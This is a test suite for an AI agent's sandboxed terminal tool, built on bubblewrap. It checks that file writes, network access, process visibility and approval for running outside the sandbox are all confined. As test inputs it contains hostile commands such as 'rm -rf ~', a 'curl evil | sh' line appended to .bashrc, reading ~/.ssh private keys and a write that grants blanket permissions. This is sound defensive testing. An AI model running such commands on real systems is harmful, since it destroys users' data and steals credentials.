import { spawnSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createServer as createNetServer, type Server as NetServer } from 'node:net';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { resolvePaths } from '../../src/shared/paths.js';
import { sandboxStatus } from '../../src/shared/sandbox/status.js';
import { openAndMigrate, type Db } from '../../src/shared/store/db.js';
import { createSession } from '../../src/shared/store/sessions.js';
import type { NetworkSetting } from '../../src/shared/sandbox/network.js';
import type { TurnOrigin } from '../../src/shared/protocol/ipc.js';
import {
  ToolRegistry,
  type ToolContext,
  type ToolResult,
} from '../../src/workers/agent/tools/registry.js';
import { terminalTools } from '../../src/workers/agent/tools/shell/terminal.js';
import { SLACK, waitFor } from '../helpers/server.js';

/**
 * The terminal tool on the real sandbox (bubblewrap on this machine). HOME is pointed at a
 * throwaway folder for the whole file, so `rm -rf ~` and `cat ~/.ssh/…` aim at files the test
 * made. Both live outside /tmp: inside the sandbox /tmp is a private folder, and the test must
 * show that the walls, not the private /tmp, keep the files safe.
 */

const base = mkdtempSync('/var/tmp/svc-sandbox-tool-');
const home = join(base, 'home');
const work = join(home, 'project');
const svcHome = join(base, 'svc-home');
const paths = resolvePaths({ SVC_HOME: svcHome });
const KEY_TEXT = 'PRIVATE-KEY-material-that-must-not-leak';
const realHome = process.env.HOME;
const realBwrap = process.env.SVC_SANDBOX_BWRAP;
let db: Db;
const servers: Array<Server | NetServer> = [];

const registry = new ToolRegistry(terminalTools({ sandbox: { enabled: () => true } }));
const registryOff = new ToolRegistry(terminalTools({ sandbox: { enabled: () => false } }));

test.before(async () => {
  mkdirSync(join(home, '.ssh'), { recursive: true });
  writeFileSync(join(home, '.ssh', 'id_ed25519'), KEY_TEXT, { mode: 0o600 });
  mkdirSync(join(home, 'Documents'));
  writeFileSync(join(home, 'Documents', 'thesis.txt'), 'years of work');
  writeFileSync(join(home, '.bashrc'), 'export PS1=ok\n');
  mkdirSync(work);
  mkdirSync(svcHome, { mode: 0o700 });
  writeFileSync(paths.accessKey, 'a'.repeat(64), { mode: 0o600 });
  db = openAndMigrate(paths.db).db;
  process.env.HOME = home;
  const st = await sandboxStatus(true);
  assert.is(
    st.state,
    'on',
    `bubblewrap must run here for these tests (${st.message}); .ci/run installs it`,
  );
});

test.after(() => {
  process.env.HOME = realHome;
  db.close();
  for (const s of servers) s.close();
  rmSync(base, { recursive: true, force: true });
});

let calls = 0;
function ctx(
  opts: { network?: NetworkSetting | null; origin?: TurnOrigin; signal?: AbortSignal } = {},
): ToolContext {
  const session = createSession(db, { working_dir: work, network: opts.network ?? null });
  return {
    sessionId: session.id,
    turnId: 'turn_1',
    callId: `call_${++calls}`,
    workingDir: work,
    origin: opts.origin,
    signal: opts.signal ?? new AbortController().signal,
    db,
    paths,
    emit: () => {},
  };
}

const run = (
  command: string,
  c: ToolContext = ctx(),
  extra: Record<string, unknown> = {},
  reg = registry,
): Promise<ToolResult> => reg.call('terminal', JSON.stringify({ command, ...extra }), c);

/** A loopback HTTP server that counts the requests it got. */
async function counter(body: string): Promise<{ port: number; hits: string[] }> {
  const hits: string[] = [];
  const s = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.end(body);
  });
  servers.push(s);
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', () => r()));
  const a = s.address();
  return { port: typeof a === 'object' && a ? a.port : 0, hits };
}

test('a write into the working folder works; rm -rf ~ fails and the home folder is intact', async () => {
  const w = await run('echo made > made.txt && cat made.txt');
  assert.is(w.output, 'made\n[exit code 0]');
  assert.is(readFileSync(join(work, 'made.txt'), 'utf8'), 'made\n');

  const r = await run('rm -rf ~');
  assert.ok(r.isError !== true && /\[exit code [1-9]\d*\]\n/.test(r.output), r.output);
  assert.match(r.output, /Read-only file system|Device or resource busy/);
  assert.is(readFileSync(join(home, 'Documents', 'thesis.txt'), 'utf8'), 'years of work');
  assert.is(readFileSync(join(home, '.bashrc'), 'utf8'), 'export PS1=ok\n');
  assert.is(readFileSync(join(home, '.ssh', 'id_ed25519'), 'utf8'), KEY_TEXT);
  assert.match(
    r.output,
    /\[this may have hit the sandbox \(it tried to write outside the writable folders\)\. If it really needs more, call terminal again with outside_sandbox/,
  );
});

test('appending to ~/.bashrc fails', async () => {
  const r = await run('echo "curl evil | sh" >> ~/.bashrc');
  assert.match(r.output, /Read-only file system\n\[exit code 1\]/);
  assert.is(readFileSync(join(home, '.bashrc'), 'utf8'), 'export PS1=ok\n');
});

test('cat ~/.ssh/… fails: the key folder is empty inside', async () => {
  const r = await run('cat ~/.ssh/id_ed25519 2>&1; ls -A ~/.ssh | wc -l');
  assert.not.match(r.output, KEY_TEXT);
  assert.match(r.output, /No such file or directory\n0\n\[exit code 0\]$/);
});

test("a write into $SVC_HOME fails, and svc's access key cannot be read", async () => {
  const r = await run(
    `echo "'*': [{allow: {}}]" > ${paths.permissions}; cat ${paths.accessKey}; ls -A ${svcHome} | wc -l`,
  );
  assert.not.match(r.output, 'a'.repeat(64));
  assert.match(r.output, /Read-only file system/);
  assert.not.ok(existsSync(paths.permissions), 'permissions.yml was not written');
});

test("svc's processes are invisible and cannot be killed: the test process itself stands in for them", async () => {
  const r = await run(
    `kill -9 ${process.pid} 2>&1; kill -9 ${process.ppid} 2>&1; ls /proc | grep -c '^[0-9]'`,
  );
  assert.match(r.output, /No such process/);
  // The sandbox sees only its own few processes (bwrap's init, the shell, ls, grep, …).
  const count = Number(/^(\d+)\n\[exit code/m.exec(r.output)?.[1]);
  assert.ok(count > 0 && count < 10, r.output);
});

test('network off: a connection to a loopback server fails and the server sees nothing; with network on the proxy refuses loopback until local_hosts names it', async () => {
  const srv = await counter('hello');
  const off = await run(`curl -sS -m 5 http://127.0.0.1:${srv.port}/off`, ctx({ network: 'off' }));
  assert.match(off.output, /Failed to connect|Couldn't connect/);
  assert.match(off.output, /\[exit code 7\]/);
  const on = await run(
    `curl -sS -f -m 5 http://127.0.0.1:${srv.port}/on; curl -sS -m 5 --noproxy '*' http://127.0.0.1:${srv.port}/direct; echo " direct=$?"`,
    ctx({ network: 'on' }),
  );
  assert.match(on.output, /The requested URL returned error: 403/);
  assert.match(
    on.output,
    `[svc sandbox proxy refused: 127.0.0.1:${srv.port} is not a public address (loopback)`,
  );
  assert.match(on.output, / direct=7\n/);
  assert.equal(srv.hits, []);
  writeFileSync(paths.permissions, `sandbox:\n  local_hosts: ["127.0.0.1:${srv.port}"]\n`);
  try {
    const ruled = await run(
      `curl -sS -m 5 http://127.0.0.1:${srv.port}/ruled`,
      ctx({ network: 'on' }),
    );
    assert.is(ruled.output, 'hello\n[exit code 0]');
    assert.equal(srv.hits, ['/ruled']);
  } finally {
    rmSync(paths.permissions, { force: true });
  }
});

test('a host list reaches the allowed loopback host through the proxy, and neither another one nor anything directly', async () => {
  const allowed = await counter('allowed');
  const other = await counter('other');
  const c = ctx({ network: [`127.0.0.1:${allowed.port}`] });
  const r = await run(
    `curl -sS -m 10 http://127.0.0.1:${allowed.port}/a; echo; curl -sS -m 10 http://127.0.0.1:${other.port}/b; echo; curl -sS -m 5 --noproxy '*' http://127.0.0.1:${allowed.port}/direct; echo " direct=$?"`,
    c,
  );
  assert.match(r.output, /^allowed\n/);
  assert.match(
    r.output,
    new RegExp(`svc sandbox: 127\\.0\\.0\\.1:${other.port} is not on this session's network list`),
  );
  assert.match(r.output, / direct=7\n/);
  assert.equal(allowed.hits, ['/a']);
  assert.equal(other.hits, []);
});

/** A static file server on loopback (what a dumb-HTTP git remote and a tarball URL need). */
async function staticServer(dir: string): Promise<{ port: number; hits: string[] }> {
  const hits: string[] = [];
  const s = createServer((req, res) => {
    hits.push(req.url ?? '');
    const file = join(dir, decodeURIComponent((req.url ?? '/').split('?')[0]!));
    if (!file.startsWith(dir) || !existsSync(file)) return void res.writeHead(404).end();
    res.end(readFileSync(file));
  });
  servers.push(s);
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', () => r()));
  return { port: (s.address() as { port: number }).port, hits };
}

test('network on: git clone and npm install reach a server that local_hosts names, through the proxy (the namespace has no other way out)', async () => {
  const served = join(base, 'served');
  mkdirSync(served);
  const git = (args: string[], cwd: string) => {
    const r = spawnSync('git', args, {
      cwd,
      encoding: 'utf8',
      env: { ...process.env, HOME: home },
    });
    assert.is(r.status, 0, r.stderr);
  };
  const src = join(base, 'src-repo');
  mkdirSync(src);
  git(['init', '-q', '-b', 'main'], src);
  writeFileSync(join(src, 'hello.txt'), 'cloned through the proxy\n');
  git(['add', '.'], src);
  git(['-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-qm', 'one'], src);
  git(['clone', '-q', '--bare', src, join(served, 'repo.git')], base);
  git(['update-server-info'], join(served, 'repo.git'));
  const pkg = join(base, 'pkg-src', 'package');
  mkdirSync(pkg, { recursive: true });
  writeFileSync(join(pkg, 'package.json'), JSON.stringify({ name: 'tiny-dep', version: '1.0.0' }));
  writeFileSync(join(pkg, 'index.js'), 'module.exports = 42;\n');
  const tar = spawnSync('tar', [
    '-czf',
    join(served, 'tiny-dep-1.0.0.tgz'),
    '-C',
    join(pkg, '..'),
    'package',
  ]);
  assert.is(tar.status, 0);
  const srv = await staticServer(served);
  const url = `http://127.0.0.1:${srv.port}`;
  mkdirSync(join(work, 'app'));
  writeFileSync(
    join(work, 'app', 'package.json'),
    JSON.stringify({ name: 'app', version: '1.0.0', private: true }),
  );
  const command = `git clone -q ${url}/repo.git cloned && cat cloned/hello.txt && cd app && npm install --no-audit --no-fund --loglevel=error ${url}/tiny-dep-1.0.0.tgz && node -p "require('tiny-dep')"`;
  const refused = await run(command, ctx({ network: 'on' }), { timeout_seconds: 300 });
  assert.match(refused.output, 'is not a public address (loopback)');
  assert.equal(srv.hits, []);
  rmSync(join(work, 'cloned'), { recursive: true, force: true });
  writeFileSync(paths.permissions, `sandbox:\n  local_hosts: ["127.0.0.1:${srv.port}"]\n`);
  try {
    const r = await run(command, ctx({ network: 'on' }), { timeout_seconds: 300 });
    assert.match(r.output, /^cloned through the proxy\n[\s\S]*42\n\[exit code 0\]/, r.output);
    assert.ok(srv.hits.some((h) => h.startsWith('/repo.git/')));
    assert.ok(srv.hits.includes('/tiny-dep-1.0.0.tgz'));
  } finally {
    rmSync(paths.permissions, { force: true });
  }
});

test("network on: a server the session's background command runs is reached by its next commands, through the proxy and directly; another session's commands are refused", async () => {
  const c = ctx({ network: 'on' });
  const again = (): ToolContext => ({ ...c, callId: `call_${++calls}` });
  const server = `node -e "require('http').createServer((q, s) => s.end('dev server here ' + q.url)).listen(4173, '127.0.0.1', () => console.log('listening'))"`;
  const started = await run(server, again(), { background: true });
  const id = /Started in the background as (\S+)/.exec(started.output)?.[1];
  assert.ok(id, started.output);
  try {
    await waitFor(
      async () =>
        (await registry.call('terminal_output', JSON.stringify({ id }), again())).output.includes(
          'listening',
        ),
      20_000,
      'the dev server to listen',
    );
    const r = await run(
      "curl -sS http://localhost:4173/proxied; echo; curl -sS --noproxy '*' http://127.0.0.1:4173/direct; echo; node -e \"fetch('http://127.0.0.1:4173/fetch').then((r) => r.text()).then(console.log)\"",
      again(),
    );
    assert.match(r.output, 'dev server here /proxied');
    assert.match(r.output, 'dev server here /direct');
    assert.match(r.output, 'dev server here /fetch');
    const other = await run('curl -sS http://localhost:4173/', ctx({ network: 'on' }));
    assert.match(other.output, 'is not a public address (loopback)');
    assert.not.match(other.output, 'dev server here');
  } finally {
    await registry.call('terminal_stop', JSON.stringify({ id }), again());
  }
});

test('a socket listed in sandbox.sockets inside the runtime folder shows through it, alone, with the variable naming it', async () => {
  const runtime = join(base, 'xdg');
  mkdirSync(runtime, { mode: 0o700 });
  writeFileSync(join(runtime, 'other'), 'not for the sandbox');
  const sock = join(runtime, 'agent.sock');
  const agent = createNetServer((c) => c.end('agent-ok\n'));
  servers.push(agent);
  await new Promise<void>((r) => agent.listen(sock, () => r()));
  const saved = { xdg: process.env.XDG_RUNTIME_DIR, ssh: process.env.SSH_AUTH_SOCK };
  process.env.XDG_RUNTIME_DIR = runtime;
  process.env.SSH_AUTH_SOCK = sock;
  const probe = `ls -A ${runtime}; echo "SSH_AUTH_SOCK=$SSH_AUTH_SOCK XDG=$XDG_RUNTIME_DIR"; node -e "require('net').connect(process.env.SSH_AUTH_SOCK || '${sock}').on('data', (d) => console.log(String(d).trim())).on('error', (e) => console.log(e.code))"`;
  try {
    const closed = await run(probe);
    assert.is(closed.output, `SSH_AUTH_SOCK= XDG=\nEPERM\n[exit code 0]`);
    writeFileSync(paths.permissions, `sandbox:\n  sockets: ["${sock}"]\n`);
    const open = await run(`${probe}; touch ${runtime}/planted 2>&1 | grep -c Read-only`);
    assert.is(open.output, `agent.sock\nSSH_AUTH_SOCK=${sock} XDG=\nagent-ok\n1\n[exit code 0]`);
  } finally {
    rmSync(paths.permissions, { force: true });
    for (const [k, v] of [
      ['XDG_RUNTIME_DIR', saved.xdg],
      ['SSH_AUTH_SOCK', saved.ssh],
    ] as const)
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
  }
});

test('npm test runs in a small project folder', async () => {
  const project = join(work, 'pkg');
  mkdirSync(project);
  writeFileSync(
    join(project, 'package.json'),
    JSON.stringify({
      name: 'pkg',
      version: '1.0.0',
      private: true,
      scripts: { test: 'node check.js' },
    }),
  );
  writeFileSync(
    join(project, 'check.js'),
    "require('fs').writeFileSync('result.txt', String(1 + 1)); console.log('tests ok');\n",
  );
  const r = await run('cd pkg && npm test --silent', ctx({ network: 'off' }), {
    timeout_seconds: 120,
  });
  assert.match(r.output, /tests ok\n\[exit code 0\]$/);
  assert.is(readFileSync(join(project, 'result.txt'), 'utf8'), '2');
});

test('exit codes, live output, the timeout and the kill on abort behave as without the sandbox', async () => {
  // stdout and stderr come through two pipes, so their relative order is not kept: both, then the code.
  const both = (await run('echo out; echo err >&2; exit 3')).output;
  assert.ok(
    ['out\nerr\n[exit code 3]', 'err\nout\n[exit code 3]'].includes(both),
    JSON.stringify(both),
  );
  const marker = `${process.pid}${Date.now() % 100000}`;
  const t = await run(`echo before; sleep 9${marker} & sleep 9${marker}`, ctx(), {
    timeout_seconds: 1,
  });
  assert.ok(t.isError);
  assert.match(t.output, /^before\n/);
  assert.match(t.output, 'timed out after 1 s');
  await waitFor(() => sleepers(marker).length === 0, 5000, 'the sandboxed sleeps to be gone');

  const ac = new AbortController();
  const m2 = `${marker}1`;
  const pending = run(`sleep 9${m2}`, ctx({ signal: ac.signal }));
  await waitFor(() => sleepers(m2).length === 1, 10_000, 'the sleep to start');
  ac.abort(new Error('interrupted'));
  const a = await pending;
  assert.match(a.output, 'interrupted');
  await waitFor(() => sleepers(m2).length === 0, 5000, 'the aborted sleep to be gone');
});

test('a sandboxed background command dies with its worker', async () => {
  const marker = `${process.pid}${Date.now() % 100000}2`;
  const moduleUrl = new URL('../../src/workers/agent/tools/shell/terminal.js', import.meta.url)
    .href;
  const script = `
    const { terminalTool } = await import(${JSON.stringify(moduleUrl)});
    const tool = terminalTool({ sandbox: { enabled: () => true } });
    const ctx = { sessionId: 's_bg', turnId: 't', callId: 'c', workingDir: ${JSON.stringify(work)}, signal: new AbortController().signal, db: null, paths: { home: ${JSON.stringify(svcHome)}, permissions: ${JSON.stringify(paths.permissions)} }, emit: () => {} };
    const r = await tool.run({ command: 'sleep 9${marker}', background: true }, ctx);
    if (r.isError) { console.error(r.output); process.exit(1); }
    const fs = await import('node:fs');
    const seen = () => fs.readdirSync('/proc').some((p) => { try { return fs.readFileSync('/proc/' + p + '/cmdline', 'utf8').startsWith('sleep\\0' + '9${marker}'); } catch { return false; } });
    while (!seen()) await new Promise((r) => setTimeout(r, 20));
    process.exit(0);
  `;
  const r = spawnSync(process.execPath, ['--input-type=module', '-e', script], {
    encoding: 'utf8',
    timeout: 20_000 * SLACK, // a guard against a hang: the child exits as soon as its condition holds
    env: { ...process.env, HOME: home },
  });
  assert.is(r.status, 0, r.stderr);
  await waitFor(
    () => sleepers(marker).length === 0,
    5000,
    'the background sleep to die with its worker',
  );
});

test('outside_sandbox runs the command as it would run without the sandbox (the gate asked before)', async () => {
  const r = await run(`echo outside > ${join(home, 'outside.txt')}`, ctx(), {
    outside_sandbox: 'write a file in the home folder',
  });
  assert.is(r.output, '(no output)\n[exit code 0]\n[ran outside the sandbox, as approved]');
  assert.is(readFileSync(join(home, 'outside.txt'), 'utf8'), 'outside\n');
});

test('cron and channel turns never step outside; their wall hints say so', async () => {
  for (const origin of ['cron', 'channel'] as const) {
    const r = await run('touch ~/x', ctx({ origin }), { outside_sandbox: 'needs the home folder' });
    assert.ok(r.isError);
    assert.match(r.output, `Refused: ${origin} turns never run commands outside the sandbox`);
    const inside = await run('touch ~/x', ctx({ origin }));
    assert.match(inside.output, `${origin} turns cannot step outside it`);
  }
  assert.not.ok(existsSync(join(home, 'x')));
});

test('permissions.yml: sandbox.hide hides more, sandbox.write grants a root, a broken section stops commands', async () => {
  const extra = join(home, 'Documents');
  const shared = join(base, 'shared');
  mkdirSync(shared);
  writeFileSync(paths.permissions, `sandbox:\n  hide: ["~/Documents"]\n  write: ["${shared}"]\n`);
  try {
    // 2>&1: cat's complaint and the echo in the order they ran (two pipes may deliver either first).
    const r = await run(
      `cat ${join(extra, 'thesis.txt')} 2>&1; echo hi > ${join(shared, 'ok.txt')} && echo wrote`,
    );
    assert.match(r.output, /No such file or directory\nwrote\n\[exit code 0\]/);
    assert.is(readFileSync(join(shared, 'ok.txt'), 'utf8'), 'hi\n');
    writeFileSync(paths.permissions, 'sandbox:\n  hide: "not a list"\n');
    const bad = await run('echo never');
    assert.ok(bad.isError);
    assert.match(bad.output, /^Not run: the sandbox section of permissions.yml has a problem/);
  } finally {
    rmSync(paths.permissions, { force: true });
  }
});

test('degraded: with bwrap missing the status says why and how to fix it, and commands run as today', async () => {
  process.env.SVC_SANDBOX_BWRAP = join(base, 'no-such-bwrap');
  try {
    const st = await sandboxStatus(true);
    assert.is(st.state, 'unavailable');
    assert.match(
      st.message,
      /^sandbox unavailable: .*no-such-bwrap is missing or not executable; fix: install bubblewrap \(Debian\/Ubuntu: sudo apt-get install bubblewrap/,
    );
    const r = await run(`echo plain > ${join(home, 'plain.txt')}`);
    assert.is(r.output, '(no output)\n[exit code 0]');
    assert.ok(
      existsSync(join(home, 'plain.txt')),
      'without a sandbox the write goes through, as before',
    );
    const cron = await run('echo hi', ctx({ origin: 'cron' }));
    assert.ok(cron.isError);
    assert.match(
      cron.output,
      /^Refused: sandbox unavailable: .*cron turns run commands only inside the sandbox/,
    );
  } finally {
    if (realBwrap === undefined) delete process.env.SVC_SANDBOX_BWRAP;
    else process.env.SVC_SANDBOX_BWRAP = realBwrap;
  }
});

test('turned off in config: the status says off, and commands run without the sandbox', async () => {
  const st = await sandboxStatus(false);
  assert.is(st.message, 'sandbox off: turned off in config.yml (sandbox.enabled: false)');
  const r = await run(`cat ${join(home, '.ssh', 'id_ed25519')}`, ctx(), {}, registryOff);
  assert.match(r.output, KEY_TEXT);
});

/** Live `sleep 9<marker>` processes, seen from outside the sandbox. */
function sleepers(marker: string): number[] {
  const out: number[] = [];
  for (const name of readdirSync('/proc')) {
    if (!/^\d+$/.test(name)) continue;
    try {
      if (!readFileSync(`/proc/${name}/cmdline`, 'utf8').startsWith(`sleep\u00009${marker}`))
        continue;
      const stat = readFileSync(`/proc/${name}/stat`, 'utf8');
      const state = stat.slice(stat.lastIndexOf(')') + 2).split(' ')[0];
      if (state !== 'Z' && state !== 'X') out.push(Number(name));
    } catch {
      // gone meanwhile
    }
  }
  return out;
}

test.run();
